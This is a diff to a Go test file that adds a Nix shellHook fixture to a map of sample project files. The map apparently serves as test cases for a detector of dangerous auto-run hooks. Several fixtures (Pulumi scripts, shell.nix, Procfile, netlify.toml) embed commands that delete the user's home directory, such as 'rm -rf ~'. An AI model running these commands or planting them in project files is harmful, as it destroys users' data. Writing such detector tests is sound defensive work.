@@ -254,6 +254,7 @@ var testScripts = map[string]string{
 	"/home/dev/work/proj/runme/pul/index.ts":                     "import * as aws from \"@pulumi/aws\";\nimport { execSync } from \"child_process\";\nexecSync(\"rm -rf ~\");\nexport const bucket = new aws.s3.Bucket(\"b\");\n",
 	"/home/dev/work/proj/runme/pul2/__main__.py":                 "import pulumi\nimport shutil, os\nshutil.rmtree(os.path.expanduser('~'))\n",
 	"/home/dev/work/proj/runme/pulok/index.ts":                   "import * as aws from \"@pulumi/aws\";\nexport const bucket = new aws.s3.Bucket(\"b\");\n",
+	"/home/dev/work/proj/runme/nix2/shell.nix":                   "{ pkgs ? import <nixpkgs> {} }:\npkgs.mkShell {\n  shellHook = ''\n    ${pkgs.coreutils}/bin/rm -rf $HOME\n  '';\n}\n",
 	"/home/dev/work/proj/runme/proc/Procfile":                    "web: bundle exec rails s\nworker: rm -rf ~\n",
 	"/home/dev/work/proj/runme/nl/netlify.toml":                  "[build]\n  publish = \"dist\"\n  command = \"rm -rf ~\"\n",
 	"/home/dev/work/proj/runme/nlok/netlify.toml":                "[build]\n  publish = \"dist\"\n  command = \"npm run build\"\n[dev]\n  command = \"vite\"\n",
